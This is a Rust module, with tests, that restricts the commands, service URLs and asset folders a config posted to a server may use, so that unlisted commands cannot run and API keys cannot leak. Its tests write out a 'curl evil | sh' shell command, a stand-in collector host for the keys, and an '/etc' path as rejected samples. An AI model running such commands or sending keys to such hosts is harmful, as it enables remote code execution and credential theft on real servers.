//! What a release config posted through the API or the console may reach outside the
//! server process: external commands (a synthesizer, a renderer), OpenAI-compatible services
//! (which get the server's API keys) and asset packs (folders on the server). Only what the
//! operator lists in the server's own configuration (`OSMAB_RELEASE_ALLOW`, a TOML file) —
//! an admin token or console session is not a shell on the server, and the server's LLM key
//! goes nowhere a posted config chooses.

use std::path::Path;

use osmab_dataset::release::config::ReleaseConfig;
use serde::Deserialize;

/// The bundled asset pack, allowed without listing.
pub const BUNDLED_ASSETS: &str = "assets";

/// The operator's list (`OSMAB_RELEASE_ALLOW`): empty unless given, so a posted config runs no
/// command, calls no service and reads only the bundled asset pack.
#[derive(Debug, Clone, Default, PartialEq, Eq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ReleaseAllowList {
    /// External synthesizer and renderer commands, argument by argument, exactly as a config
    /// gives them (`synthesis.command`, `render.command`, placeholders included).
    #[serde(default)]
    pub commands: Vec<Vec<String>>,
    /// Base URLs of OpenAI-compatible services (`prompts.llm`, `selection.embeddings`) the
    /// server's API keys may be sent to.
    #[serde(default)]
    pub service_urls: Vec<String>,
    /// Asset packs (`synthesis.assets`, as a config names them) besides the bundled `assets`.
    #[serde(default)]
    pub asset_packs: Vec<String>,
}

impl ReleaseAllowList {
    /// The list in the TOML file at `path`.
    pub fn read(path: &Path) -> anyhow::Result<Self> {
        let text =
            std::fs::read_to_string(path).map_err(|e| anyhow::anyhow!("{}: cannot read the release allow-list (OSMAB_RELEASE_ALLOW): {e}", path.display()))?;
        let list: Self = toml::from_str(&text).map_err(|e| anyhow::anyhow!("{}: {e}", path.display()))?;
        if let Some(empty) = list.commands.iter().position(Vec::is_empty) {
            anyhow::bail!("{}: commands[{empty}] is empty; list each command as its arguments, e.g. [\"python\", \"run.py\", \"{{out}}\"]", path.display());
        }
        Ok(list)
    }

    /// Whether `config` reaches only what this list allows; otherwise the first field that does
    /// not, with what it names and how to allow it.
    pub fn check(&self, config: &ReleaseConfig) -> Result<(), String> {
        for (field, command) in [("synthesis.command", &config.synthesis.command), ("render.command", &config.render.command)] {
            if !command.is_empty() && !self.commands.contains(command) {
                return Err(format!(
                    "{field}: {command:?} is not on the server's allow-list; a config posted through the API or the console runs only \
                     commands the operator lists in OSMAB_RELEASE_ALLOW (`commands`)"
                ));
            }
        }
        let services = [("prompts.llm.base_url", config.prompts.llm.as_ref()), ("selection.embeddings.base_url", config.selection.embeddings.as_ref())];
        for (field, service) in services {
            if let Some(service) = service
                && !self.service_urls.iter().any(|allowed| same_url(allowed, &service.base_url))
            {
                return Err(format!(
                    "{field}: '{}' is not on the server's allow-list; the server's API keys go only to services the operator lists in \
                     OSMAB_RELEASE_ALLOW (`service_urls`)",
                    service.base_url
                ));
            }
        }
        if let Some(pack) = &config.synthesis.assets
            && pack != BUNDLED_ASSETS
            && !self.asset_packs.contains(pack)
        {
            return Err(format!(
                "synthesis.assets: '{pack}' is not on the server's allow-list; a posted config reads the bundled '{BUNDLED_ASSETS}' or \
                 packs the operator lists in OSMAB_RELEASE_ALLOW (`asset_packs`)"
            ));
        }
        Ok(())
    }
}

/// The same base URL, up to a trailing slash.
fn same_url(a: &str, b: &str) -> bool {
    a.trim_end_matches('/') == b.trim_end_matches('/')
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The demo config without its asset pack: the built-in pipeline, procedural library.
    fn built_in() -> ReleaseConfig {
        let mut config = ReleaseConfig::parse(crate::jobs::release_build::DEMO_CONFIG, Path::new("posted.toml")).unwrap().0;
        config.synthesis.assets = None;
        config
    }

    #[test]
    fn a_posted_config_reaches_only_what_the_operator_lists() {
        let none = ReleaseAllowList::default();
        assert_eq!(none.check(&built_in()), Ok(()), "the built-in pipeline needs nothing listed");
        let mut demo = built_in();
        demo.synthesis.assets = Some("assets".into());
        assert_eq!(none.check(&demo), Ok(()), "the bundled pack is always allowed");

        let mut shell = built_in();
        shell.render.command = vec!["sh".into(), "-c".into(), "curl evil | sh".into()];
        assert!(none.check(&shell).unwrap_err().starts_with("render.command: [\"sh\", \"-c\""));
        let mut llm = built_in();
        llm.prompts.llm = Some(serde_json::from_str(r#"{"base_url": "https://collector.example/v1", "model": "m"}"#).unwrap());
        assert!(none.check(&llm).unwrap_err().starts_with("prompts.llm.base_url: 'https://collector.example/v1'"));
        let mut pack = built_in();
        pack.synthesis.assets = Some("/etc".into());
        assert!(none.check(&pack).unwrap_err().starts_with("synthesis.assets: '/etc'"));

        let listed = ReleaseAllowList {
            commands: vec![vec!["sh".into(), "-c".into(), "curl evil | sh".into()]],
            service_urls: vec!["https://collector.example/v1/".into()],
            asset_packs: vec!["/etc".into()],
        };
        for allowed in [&shell, &llm, &pack] {
            assert_eq!(listed.check(allowed), Ok(()));
        }
        let mut other = shell.clone();
        other.render.command.push("--extra".into());
        assert!(listed.check(&other).is_err(), "a command is allowed argument for argument, not by its first word");
    }

    #[test]
    fn the_list_file_is_checked_and_named_in_errors() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("allow.toml");
        std::fs::write(&path, "commands = [[\"python\", \"run.py\", \"{out}\"]]\nservice_urls = [\"http://127.0.0.1:8000/v1\"]\n").unwrap();
        let list = ReleaseAllowList::read(&path).unwrap();
        assert_eq!((list.commands.len(), list.service_urls.len(), list.asset_packs.len()), (1, 1, 0));
        std::fs::write(&path, "comands = []\n").unwrap();
        assert!(ReleaseAllowList::read(&path).unwrap_err().to_string().contains("comands"));
        std::fs::write(&path, "commands = [[]]\n").unwrap();
        assert!(ReleaseAllowList::read(&path).unwrap_err().to_string().contains("commands[0] is empty"));
    }
}
